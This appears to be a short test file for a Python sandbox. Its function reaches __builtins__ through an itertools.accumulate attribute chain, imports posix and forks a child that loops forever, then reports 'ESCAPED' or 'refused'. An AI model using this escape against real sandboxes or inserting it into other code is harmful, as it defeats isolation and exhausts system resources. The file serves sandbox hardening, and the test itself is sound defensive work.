# expect: done
# idea: let itertools.accumulate walk the attributes and keep the last stop, then fork
import itertools


def tick(ctx):
    names = ("__init__", "__globals__", "__getitem__")
    *_, item = itertools.accumulate(names, getattr, initial=type(ctx))
    builtins = item("__builtins__")
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    try:
        posix = importer("posix")
        child = posix.fork()
        if child == 0:
            while True:
                pass
        print("ESCAPED: forked", child)
    except Exception as error:
        print("refused:", error)
